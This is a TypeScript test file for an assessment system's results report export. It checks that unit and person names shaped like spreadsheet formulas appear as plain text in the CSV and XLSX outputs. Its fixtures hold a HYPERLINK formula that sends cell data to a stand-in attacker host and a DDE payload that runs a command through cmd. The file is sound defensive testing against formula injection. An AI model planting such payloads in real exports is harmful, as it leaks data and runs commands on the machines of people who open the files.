import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { buildUnit, buildUser } from '../../test/builders.ts';
import { buildPublishedAssessment } from '../../test/assessment-builders.ts';
import { createTestEnv, describeEachDialect, login, type Session, type TestEnv } from '../../test/harness.ts';
import { findRootUnit } from '../units/repository.ts';

const EVIL_UNIT = '=HYPERLINK("https://evil.example/?d="&B2,"Bấm để xem")';
const EVIL_NAME = '-2+3+cmd|\' /C calc\'!A0';

/** RFC 4180 fields of one CSV text (quoted fields with "" escapes, CRLF lines). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i++; } else if (c === '"') quoted = false; else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(field); field = ''; } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field); rows.push(row); row = []; field = ''; i++;
    } else field += c;
  }
  return rows;
}

describeEachDialect('results report files', (dialect) => {
  let env: TestEnv;
  let organizer: Session;
  let assessmentId: number;

  beforeAll(async () => {
    env = await createTestEnv(dialect);
    const root = (await findRootUnit(env.ctx.db))!;
    const unit = await buildUnit(env.ctx, { name: EVIL_UNIT });
    const o = await buildUser(env.ctx, { unit: root, roles: [{ role: 'organizer', unit: root }] });
    organizer = await login(env.app, o.username, o.password);
    const p = await buildUser(env.ctx, { unit, fullName: EVIL_NAME });
    const participant = await login(env.app, p.username, p.password);
    assessmentId = (await buildPublishedAssessment(env.ctx, { targets: [unit], shuffleQuestions: false, shuffleOptions: false })).id;
    const attemptId = (await participant.request('POST', `/api/my/assessments/${assessmentId}/start`)).json().attemptId;
    const answers = Array.from({ length: 10 }, (_, position) => ({ position, flagged: false, seq: position + 1, base: 0, choice: 0 }));
    const submit = await participant.request('POST', `/api/attempts/${attemptId}/submit`,
      { clientId: 'x', deviceId: 'device-x', kind: 'participant', answers });
    expect(submit.statusCode, submit.body).toBe(200);
  });
  afterAll(async () => env.close());

  it('writes a unit or person name that looks like a formula as text in the CSV, numbers as numbers', async () => {
    const res = await organizer.request('GET', `/api/assessments/${assessmentId}/report?format=csv`);
    expect(res.statusCode).toBe(200);
    const rows = parseCsv(res.rawPayload.subarray(3).toString('utf8'));
    expect(rows[0]).toEqual(['STT', 'Họ và tên', 'Đơn vị', 'Chức vụ', 'Mã đề', 'Số câu đúng', 'Điểm', 'Xếp loại', 'Thời điểm nộp']);
    expect(rows).toHaveLength(2);
    const [stt, name, unit, , , correct, score] = rows[1];
    expect(unit).toBe(`'${EVIL_UNIT}`);
    expect(name).toBe(`'${EVIL_NAME}`);
    expect(stt).toBe('1');
    expect(correct).toMatch(/^\d+$/);
    expect(score).toMatch(/^\d+(\.\d+)?$/);
  });

  it('writes the same names as string cells, never formulas, in the workbook', async () => {
    const res = await organizer.request('GET', `/api/assessments/${assessmentId}/report?format=xlsx`);
    expect(res.statusCode).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const found: ExcelJS.Cell[] = [];
    book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => {
      if (cell.value === EVIL_UNIT || cell.value === EVIL_NAME) found.push(cell);
    })));
    expect(found.length).toBeGreaterThanOrEqual(2);
    for (const cell of found) {
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
    }
    // And at the XML level: no sheet holds a formula element at all.
    const zip = await JSZip.loadAsync(res.rawPayload);
    const sheets = Object.keys(zip.files).filter((f) => /^xl\/worksheets\/sheet\d+\.xml$/.test(f));
    expect(sheets.length).toBeGreaterThan(0);
    for (const f of sheets) expect(await zip.file(f)!.async('string')).not.toMatch(/<f[ >]/);
  });
});
